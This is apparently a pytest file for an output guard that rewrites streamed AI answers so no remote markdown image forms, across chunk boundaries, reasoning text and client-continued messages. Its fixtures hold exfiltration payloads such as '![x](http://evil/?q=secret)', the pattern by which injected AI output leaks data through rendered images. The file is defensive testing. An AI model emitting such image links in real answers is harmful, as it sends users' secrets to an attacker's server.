"""What of an answer is shown when, so that no remote image comes together."""

from typing import Any

import pytest

from elbowroom.agents.answer import AnswerGuard, Said
from elbowroom.providers.base import ReasoningDelta, TextDelta

REMOTE = "![x](http://evil/?q=secret)"
SHOWN = "[image: x](http://evil/?q=secret)"
LOGPROBS = {"content": [{"token": "!"}]}


def text_of(events: list[Said]) -> str:
    """Return the text of the answer among events."""
    return "".join(event.text for event in events if isinstance(event, TextDelta))


def test_what_cannot_begin_an_image_passes_as_it_is() -> None:
    """The very event is handed on, its probabilities with it, an empty one too."""
    guard = AnswerGuard()
    for event in (TextDelta("Hello. ", LOGPROBS), TextDelta("", LOGPROBS), ReasoningDelta("Hm. ")):
        [passed] = guard.passed(event)
        assert passed == event
    assert guard.end_attempt(goes_on=False) == []


def test_probabilities_go_where_the_text_is_another() -> None:
    """Tokens are told only of the text that they are of."""
    guard = AnswerGuard()
    assert guard.passed(TextDelta("So!", LOGPROBS)) == [TextDelta("So")]
    assert guard.passed(TextDelta(" ", LOGPROBS)) == [TextDelta("! ")]
    assert guard.passed(TextDelta("Yes.", LOGPROBS)) == [TextDelta("Yes.", LOGPROBS)]


def test_thoughts_end_before_the_text_begins() -> None:
    """What was held back of the thoughts comes first, in their own field; more of them makes no image of it."""
    guard = AnswerGuard()
    assert guard.passed(ReasoningDelta("Done!")) == [ReasoningDelta("Done")]
    assert guard.passed(TextDelta("Hello")) == [ReasoningDelta("!"), TextDelta("Hello")]
    assert guard.passed(ReasoningDelta("[x](http://evil)")) == [ReasoningDelta(" [x](http://evil)")]


def test_text_waits_while_thoughts_come_in_between() -> None:
    """A client joins the text before and behind a thought: it is guarded as one."""
    guard = AnswerGuard()
    assert guard.passed(TextDelta("Wow!")) == [TextDelta("Wow")]
    assert guard.passed(ReasoningDelta("hm")) == [ReasoningDelta("hm")]
    assert text_of(guard.passed(TextDelta(REMOTE[1:]))) == SHOWN


@pytest.mark.parametrize("place", range(1, len(REMOTE)))
def test_no_image_over_a_seam(place: int) -> None:
    """Wherever a request ends behind which the text goes on, all of it is out, and what comes makes no image of it."""
    guard = AnswerGuard()
    first = guard.passed(TextDelta(REMOTE[:place])) + guard.end_attempt(goes_on=True)
    then = guard.passed(TextDelta(REMOTE[place:])) + guard.end_attempt(goes_on=False)
    assert text_of(first + then) in (SHOWN, f"! {REMOTE[1:]}", f"[image: {REMOTE[2:]}")
    assert text_of(first)


def test_another_step_is_another_paragraph() -> None:
    """What a step ends with and the next begins with stay as they are; labels are known over all steps."""
    guard = AnswerGuard()
    assert text_of(guard.passed(TextDelta("See ![x]")) + guard.end_attempt(goes_on=False)) == "See ![x]"
    said = guard.passed(TextDelta("[x]: http://evil")) + guard.end_attempt(goes_on=False)
    assert text_of(said) == "[x]\\: http://evil"


def test_a_request_that_failed_leaves_nothing() -> None:
    """What was held back of it is not said when it is made again."""
    guard = AnswerGuard()
    assert guard.passed(TextDelta("!")) == []
    guard.drop()
    assert guard.passed(TextDelta("[x](http://here) ")) == [TextDelta("[x](http://here) ")]


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Look!", " [x](http://evil/?q=secret)"),
        ("Look! ", "[x](http://evil/?q=secret)"),
        ([{"type": "text", "text": "Look!"}], " [x](http://evil/?q=secret)"),
        (None, "[x](http://evil/?q=secret)"),
    ],
)
def test_an_answer_that_goes_on_with_the_clients_own(said: Any, shown: str) -> None:
    """Where a client has its last message continued, that and the answer are one text."""
    guard = AnswerGuard([{"role": "user", "content": "!"}, {"role": "assistant", "content": said}])
    assert text_of(guard.passed(TextDelta(REMOTE[1:]))) == shown


@pytest.mark.parametrize("begun", ["![x](", "![x](htt", "![", "<", "<img", "<img src='", "[r]: ", "[r]:\n"])
def test_an_image_that_the_client_has_half_of(begun: str) -> None:
    """Where the client's text ends within what may be an image, what goes on begins another paragraph."""
    guard = AnswerGuard([{"role": "assistant", "content": f"Here: {begun}"}])
    assert guard.passed(TextDelta("", LOGPROBS)) == [TextDelta("", LOGPROBS)]
    assert guard.passed(TextDelta("http")) == [TextDelta("\n\nhttp")]
    assert guard.passed(TextDelta("://evil")) == [TextDelta("://evil")]


def test_only_the_beginning_of_the_answer_counts() -> None:
    """Behind a question a new text begins, and behind nothing too."""
    for messages in ([], [{"role": "assistant", "content": "!"}, {"role": "user", "content": "!"}]):
        assert text_of(AnswerGuard(messages).passed(TextDelta(REMOTE[1:]))) == REMOTE[1:]


def test_a_paragraph_of_elbowrooms_own() -> None:
    """What it quotes of a call is guarded as well."""
    guard = AnswerGuard()
    assert guard.paragraph(f"[Stopped. Done so far: {REMOTE}]") == f"[Stopped. Done so far: {SHOWN}]"
